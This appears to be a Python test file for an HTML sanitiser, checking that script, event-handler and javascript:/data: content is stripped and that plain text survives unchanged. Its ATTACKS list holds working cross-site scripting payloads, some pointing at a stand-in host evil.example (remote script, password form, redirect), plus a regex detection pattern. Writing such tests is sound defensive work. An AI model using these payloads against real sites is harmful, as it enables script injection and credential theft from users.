"""HTML sanitising: nothing that runs stays, plain text stays as it is, twice is once."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.admission.markup import sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><x onclick=1>y</x>",
    "</title><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b onmouseover=alert(1)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
]
DANGEROUS = re.compile(
    r"<(script|iframe|style|form|input|meta|base|object|embed|svg|math|noscript)\b|<[^>]*\son\w+=|<[^>]*(javascript|data):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_could_run_is_taken_out_and_twice_is_once(attack: str) -> None:
    for text in (attack, f"before {attack} after", attack * 2):
        cleaned = sanitised(text)
        assert not DANGEROUS.search(cleaned)
        assert sanitised(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        *("", "R&D, a < b", "5<6 and I <3 U", "x > y && z", "&lt;script&gt;", "&amp;", "<", "<<", "< b>"),
        *("a <\nb", "1 <2> 3", "\u00a0"),
    ],
)
def test_plain_text_stays_byte_for_byte(text: str) -> None:
    assert sanitised(text) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("a<b and c<d", "a&lt;b and c&lt;d"),
        ("<b>x</b> a<b", "<b>x</b> a&lt;b"),
        ("R&D <img src=x onerror=alert(1) ", "R&amp;D &lt;img src=x onerror=alert(1) "),
    ],
)
def test_an_unfinished_tag_stays_as_text(text: str, wanted: str) -> None:
    assert sanitised(text) == wanted


def test_harmless_formatting_stays() -> None:
    text = (
        '<p>Hello <b>all</b>, <i>see</i> <a href="https://a.example/" rel="noopener noreferrer">this</a></p>'
    )
    assert sanitised(text) == text


soup = st.lists(
    st.sampled_from(
        [
            *("<", ">", "/", "!", "?", "&", ";", "=", '"', "'", " ", "--", "a", "b", "\n", "&lt;", "&#60;"),
            *(
                "script",
                "style",
                "svg",
                "math",
                "table",
                "td",
                "p",
                "template",
                "onload",
                "javascript:",
                "href",
            ),
            *("<!--", "-->", "<![CDATA["),
        ]
    ),
    max_size=40,
).map("".join)


@given(text=soup | st.text())
@settings(max_examples=1000, deadline=None)
def test_any_text_is_cleaned_for_good_in_one_go(text: str) -> None:
    cleaned = sanitised(text)
    assert sanitised(cleaned) == cleaned
    assert not re.search(r"<(script|style|iframe|svg|math)\b|<[^>]*\sonload\s*=", cleaned, re.IGNORECASE)
